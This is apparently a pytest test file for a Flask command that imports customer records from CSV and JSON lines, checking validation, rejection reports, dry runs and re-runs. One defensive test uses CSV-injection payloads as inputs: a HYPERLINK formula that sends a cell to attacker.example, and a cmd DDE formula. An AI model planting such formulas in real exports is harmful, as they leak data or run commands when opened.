"""``flask customers import``: CSV and JSON lines, report, dry run, re-runs; both databases."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from latepoint_forms.csv_reports import spreadsheet_safe
from latepoint_forms.extensions import db
from latepoint_forms.models import Customer

from .catalog_fixtures import add_custom_fields
from .conftest import ApiClient
from .test_api import BASIC, customer_count

BOM = "\ufeff"


def run_import(runner: Any, *args: Any) -> Any:
    return runner.invoke(args=["customers", "import", *map(str, args)])


def summary(result: Any) -> list[str]:
    assert result.exit_code == 0, result.output
    return result.stdout.strip().splitlines()


def stored(app: Flask) -> list[Customer]:
    with app.app_context():
        return list(db.session.execute(select(Customer).order_by(Customer.id)).scalars())


def read_report(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def test_csv_with_bom_and_non_ascii_names(runner: Any, app: Flask, tmp_path: Path) -> None:
    add_custom_fields(app)
    file = write(
        tmp_path / "customers.csv",
        BOM + "first_name,last_name,email,phone,country,is_guest,wordpress_user_id,"
        "custom_fields.newsletter,custom_fields.visits,custom_fields.membership_level\n"
        "Zoë,Łukasz,Zoe@Example.com,020 7946 0958,gb,yes,12,yes,3,gold\n"
        "王小明,Nguyễn,,,,no,,0,,\n"
        "José María,O’Brien,jm@example.org,,,,,,,\n",
    )

    result = run_import(runner, file)

    assert summary(result) == ["Created: 3", "Already present: 0", "Rejected: 0"]
    zoe, wang, jose = stored(app)
    assert (zoe.first_name, zoe.last_name, zoe.email) == ("Zoë", "Łukasz", "zoe@example.com")
    assert (zoe.phone, zoe.country, zoe.is_guest, zoe.wordpress_user_id) == (
        "+442079460958",
        "GB",
        True,
        12,
    )
    assert zoe.custom_fields == {"visits": 3, "membership_level": "gold", "newsletter": True}
    assert (wang.first_name, wang.last_name, wang.email, wang.is_guest) == (
        "王小明",
        "Nguyễn",
        None,
        False,
    )
    assert wang.custom_fields == {"newsletter": False}
    assert jose.last_name == "O'Brien"
    assert {c.source for c in (zoe, wang, jose)} == {"import"}


MIXED_CSV = (
    "first_name,last_name,email,notes,is_guest,wordpress_user_id\n"  # line 1
    "Ann,Lee,ann@example.com,,,\n"  # 2: created
    'J0hn,Doe,not-an-email,"two\nlines",maybe,x\n'  # 3-4: rejected (4 fields)
    "\n"  # 5: blank, skipped
    "Bo,Kim,,,true,7\n"  # 6: created
    "Cy,Ray,cy@example.com,,,7\n"  # 7: rejected: WordPress user taken by line 6
    "Di,Fox,ANN@example.com,,,\n"  # 8: rejected: line 2's email, another person
    "Ed,Ng,ed@example.com,,,,surplus\n"  # 9: rejected: more cells than the header
    "Fay,Po\n"  # 10: created (missing cells are not given)
)
MIXED_REPORT = [
    ["row", "field", "message"],
    ["3", "email", "Enter a valid email address. An email address must have an @-sign."],
    ["3", "first_name", "First name can only contain letters, spaces, hyphens and apostrophes"],
    ["3", "is_guest", "Must be true or false"],
    ["3", "wordpress_user_id", "Must be an integer"],
    ["7", "wordpress_user_id", "This WordPress user is already linked to another customer"],
    ["8", "email", "This email address is already registered"],
    ["9", "row", "This row has 7 cells; the header has 6"],
]


def test_mixed_rows_with_report(runner: Any, app: Flask, tmp_path: Path) -> None:
    file = write(tmp_path / "mixed.csv", MIXED_CSV)
    report = tmp_path / "rejected.csv"

    result = run_import(runner, file, "--report", report)

    assert summary(result) == [
        "Created: 3",
        "Already present: 0",
        f"Rejected: 4 (see {report})",
    ]
    assert read_report(report) == MIXED_REPORT
    # Rejected rows are not half-written: only the valid rows are stored.
    assert [c.first_name for c in stored(app)] == ["Ann", "Bo", "Fay"]


def test_dry_run_writes_nothing_and_judges_like_the_real_run(
    runner: Any, app: Flask, tmp_path: Path
) -> None:
    file = write(tmp_path / "mixed.csv", MIXED_CSV)
    report = tmp_path / "dry.csv"

    result = run_import(runner, "--dry-run", file, "--report", report)

    assert summary(result) == [
        "Dry run: nothing was written.",
        "Would create: 3",
        "Already present: 0",
        f"Rejected: 4 (see {report})",
    ]
    assert read_report(report) == MIXED_REPORT
    assert customer_count(app) == 0


def test_rerunning_a_file_creates_nothing_new(runner: Any, app: Flask, tmp_path: Path) -> None:
    file = write(
        tmp_path / "again.csv",
        "first_name,last_name,email,city\n"
        "Ann,Lee,ann@example.com,\n"
        "Walk,In,,London\n"
        "Walk,In,,Paris\n"  # another person: a different record
        "Zoë,Quinn,,\n",
    )
    first = run_import(runner, file)

    # The same rows, spelled differently (email case, spaces, order of columns): the same
    # normalised records. (A name in other letter case would be another record: names keep
    # their case, and its taken email would make it a rejected row.)
    respelled = write(
        tmp_path / "respelled.csv",
        "city,last_name,first_name,email\n"
        ",Quinn,  Zoë ,\n"
        "Paris,In,Walk,\n"
        " London ,In,Walk,\n"
        ",Lee,Ann,ANN@example.com\n",
    )
    second = run_import(runner, file)
    third = run_import(runner, respelled)
    dry = run_import(runner, "--dry-run", file)

    assert summary(first) == ["Created: 4", "Already present: 0", "Rejected: 0"]
    assert summary(second) == ["Created: 0", "Already present: 4", "Rejected: 0"]
    assert summary(third) == ["Created: 0", "Already present: 4", "Rejected: 0"]
    assert summary(dry)[1:] == ["Would create: 0", "Already present: 4", "Rejected: 0"]
    assert customer_count(app) == 4


def test_email_registered_before_the_import_is_a_reported_rejection(
    runner: Any, api: ApiClient, tmp_path: Path
) -> None:
    """Registered through the API (no import fingerprint): the row is not "already present",
    whoever it names; it is rejected and reported, and the stored customer is untouched."""
    assert api.post("/customers", BASIC).status_code == 201
    file = write(tmp_path / "one.jsonl", json.dumps({**BASIC, "first_name": "Johnny"}) + "\n")
    report = tmp_path / "report.csv"

    result = run_import(runner, file, "--report", report)

    assert summary(result) == ["Created: 0", "Already present: 0", f"Rejected: 1 (see {report})"]
    assert read_report(report)[1:] == [["1", "email", "This email address is already registered"]]
    assert [c.first_name for c in stored(api.app)] == ["John"]


@pytest.mark.parametrize("dry_run", [False, True])
def test_another_person_with_a_taken_email_is_rejected_not_dropped(
    runner: Any, app: Flask, tmp_path: Path, dry_run: bool
) -> None:
    file = write(
        tmp_path / "shared.csv",
        "first_name,last_name,email\nAnn,Lee,ann@example.com\nBob,Smith,ann@example.com\n",
    )
    report = tmp_path / "report.csv"
    options = ["--dry-run"] if dry_run else []

    lines = summary(run_import(runner, *options, file, "--report", report))

    assert lines[-3:] == [
        "Would create: 1" if dry_run else "Created: 1",
        "Already present: 0",
        f"Rejected: 1 (see {report})",
    ]
    assert read_report(report)[1:] == [["3", "email", "This email address is already registered"]]
    assert [c.first_name for c in stored(app)] == ([] if dry_run else ["Ann"])


def test_a_rerun_after_a_taken_email_still_reports_it(
    runner: Any, app: Flask, tmp_path: Path
) -> None:
    """Ann's row is already present on the second run (same record); Bob's is rejected again."""
    file = write(
        tmp_path / "shared.csv",
        "first_name,last_name,email\nAnn,Lee,ann@example.com\nBob,Smith,ann@example.com\n",
    )
    run_import(runner, file)
    report = tmp_path / "report.csv"

    second = run_import(runner, file, "--report", report)

    assert summary(second) == ["Created: 0", "Already present: 1", f"Rejected: 1 (see {report})"]
    assert read_report(report)[1:] == [["3", "email", "This email address is already registered"]]
    assert customer_count(app) == 1


def test_json_lines_with_broken_lines(runner: Any, app: Flask, tmp_path: Path) -> None:
    lines = [
        json.dumps({"first_name": "Ann", "last_name": "Lee", "email": "ann@example.com"}),
        '{"first_name": "Bo", "last_name": ',  # 2: cut off
        "",  # 3: blank
        json.dumps(["Cy", "Ray"]),  # 4: not an object
        json.dumps({"first_name": "Di", "last_name": "Fox", "zip": "12345"}),  # 5: unknown key
        '{"first_name": "Ed", "last_name": "Ng", "wordpress_user_id": NaN}',  # 6: not JSON
        json.dumps({"first_name": "Fay", "last_name": "Po", "is_guest": True}),
        json.dumps({"first_name": "Guy", "last_name": "Ho", "is_guest": "yes"}),  # 8: JSON types
        '{"first_name": "Hal", "last_name": "Ek", "first_name": "Ian"}',  # 9: a name twice
    ]
    file = write(tmp_path / "people.ndjson", "\n".join(lines))  # no newline at the end
    report = tmp_path / "report.csv"

    result = run_import(runner, file, "--report", report)

    assert summary(result) == ["Created: 2", "Already present: 0", f"Rejected: 6 (see {report})"]
    rows = read_report(report)
    assert [(row[0], row[1]) for row in rows[1:]] == [
        ("2", "line"),
        ("4", "customer"),
        ("5", "zip"),
        ("6", "line"),
        ("8", "is_guest"),
        ("9", "line"),
    ]
    assert "'first_name' more than once" in rows[6][2]
    assert rows[1][2].startswith("Not valid JSON")
    assert rows[3][2] == "Unknown field"
    assert rows[5][2] == "Must be true or false"
    assert [(c.first_name, c.is_guest) for c in stored(app)] == [("Ann", False), ("Fay", True)]


def test_format_option_overrides_the_extension(runner: Any, app: Flask, tmp_path: Path) -> None:
    file = write(tmp_path / "export.txt", "first_name,last_name\nAnn,Lee\n")

    assert run_import(runner, file).exit_code == 1
    assert summary(run_import(runner, "--format", "csv", file))[0] == "Created: 1"


@pytest.mark.parametrize(
    ("name", "content", "encoding", "message"),
    [
        (
            "latin1.csv",
            "first_name,last_name\nJosé,Núñez\n",
            "latin-1",
            "Line 2 is not valid UTF-8",
        ),
        ("empty.csv", "", "utf-8", "The file is empty"),
        ("typo.csv", "first_name,last_name,zip\nAnn,Lee,123\n", "utf-8", "Unknown column(s)"),
        ("twice.csv", "first_name,last_name,last_name\n", "utf-8", "named twice"),
        ("nameless.csv", "email\nann@example.com\n", "utf-8", "no first_name and no last_name"),
        ("custom.csv", "first_name,last_name,custom_fields.vip\n", "utf-8", "custom_fields.vip"),
        ("cut.jsonl", '{"first_name": "Zo\xc3', "bytes", "not valid UTF-8"),
    ],
)
def test_a_file_that_cannot_be_read_imports_nothing(
    runner: Any, app: Flask, tmp_path: Path, name: str, content: str, encoding: str, message: str
) -> None:
    file = tmp_path / name
    if encoding == "bytes":
        file.write_bytes(content.encode("latin-1"))
    else:
        write(file, content, encoding)
    report = tmp_path / "report.csv"

    result = run_import(runner, file, "--report", report)

    assert result.exit_code == 1
    assert message in result.output
    assert not report.exists()
    assert customer_count(app) == 0


def test_a_missing_file_is_a_usage_error(runner: Any, app: Flask, tmp_path: Path) -> None:
    result = run_import(runner, tmp_path / "nowhere.csv")

    assert result.exit_code == 2
    assert "does not exist" in result.output


def test_progress_bar_in_a_non_tty_and_a_large_file(
    runner: Any, app: Flask, tmp_path: Path
) -> None:
    rows = "".join(f"Ann,Lee,ann{i}@example.com\n" for i in range(300))
    file = write(tmp_path / "many.csv", "first_name,last_name,email\n" + rows)

    result = run_import(runner, file)

    assert summary(result) == ["Created: 300", "Already present: 0", "Rejected: 0"]
    assert "Importing" in result.stderr
    assert customer_count(app) == 300


def test_custom_field_cells_are_checked_by_their_definitions(
    runner: Any, app: Flask, tmp_path: Path
) -> None:
    add_custom_fields(app)
    file = write(
        tmp_path / "custom.csv",
        "first_name,last_name,custom_fields.membership_level,custom_fields.visits,"
        "custom_fields.newsletter\n"
        "Ann,Lee,platinum,many,perhaps\n"
        "Bo,Kim,basic,52,no\n",
    )
    report = tmp_path / "report.csv"

    result = run_import(runner, file, "--report", report)

    assert summary(result)[0] == "Created: 1"
    assert [row[:2] for row in read_report(report)[1:]] == [
        ["2", "custom_fields.membership_level"],
        ["2", "custom_fields.newsletter"],
        ["2", "custom_fields.visits"],
    ]
    assert read_report(report)[1][2] == "Must be one of: basic, gold"
    assert stored(app)[0].custom_fields == {
        "visits": 52,
        "membership_level": "basic",
        "newsletter": False,
    }


FORMULA_KEYS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_report_cells_a_spreadsheet_would_run_are_escaped(
    runner: Any, app: Flask, tmp_path: Path
) -> None:
    """OWASP's CSV-injection advice: a leading quote on every cell that starts with = + - @,
    a tab or a carriage return; the rest of the report is as it was."""
    row = {"first_name": "Ann", "last_name": "Lee", **dict.fromkeys(FORMULA_KEYS, "x")}
    file = write(tmp_path / "evil.jsonl", json.dumps(row) + "\n")
    report = tmp_path / "report.csv"

    result = run_import(runner, file, "--report", report)

    assert summary(result)[-1] == f"Rejected: 1 (see {report})"
    rows = read_report(report)
    assert rows[0] == ["row", "field", "message"]
    assert sorted(field for _, field, _ in rows[1:]) == sorted("'" + key for key in FORMULA_KEYS)
    assert {(line, message) for line, _, message in rows[1:]} == {("1", "Unknown field")}
    # Every cell is quoted, so a spreadsheet cannot split or reinterpret one.
    assert report.read_bytes().decode().startswith('"row","field","message"\r\n"1",')


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Unknown field", "Unknown field"),
        ("a=1", "a=1"),
        ("", ""),
        (-1, -1),
        (7, 7),
    ],
)
def test_spreadsheet_safe(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written
